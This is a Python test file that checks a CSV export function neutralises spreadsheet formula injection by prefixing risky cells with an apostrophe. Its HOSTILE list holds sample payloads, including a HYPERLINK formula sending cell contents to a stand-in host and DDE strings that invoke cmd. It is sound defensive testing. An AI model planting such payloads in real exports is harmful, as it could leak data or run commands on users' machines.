"""CSV exports: text from seeds never becomes a spreadsheet formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsdossier.render.export import FORMULA_START, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_written_as_text(value):
    rows = _cells(to_csv(["title"], [[value]]))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", ["Paris", "A minister said = nothing", "2015-11-13", "", "'quoted'"])
def test_other_cells_are_written_as_they_are(value):
    assert _cells(to_csv(["title"], [[value]]))[1] == [value]


def test_a_formula_in_a_header_or_none_is_handled_too():
    assert _cells(to_csv(["=A1", "b"], [[None, 3]])) == [["'=A1", "b"], ["", "3"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_no_cell_ever_starts_like_a_formula_and_the_text_is_kept(values):
    rows = _cells(to_csv([f"c{i}" for i in range(len(values))], [values]))
    assert len(rows) == 2 and len(rows[1]) == len(values)
    for original, cell in zip(values, rows[1], strict=True):
        assert not cell.startswith(FORMULA_START)
        assert cell in (original, "'" + original)
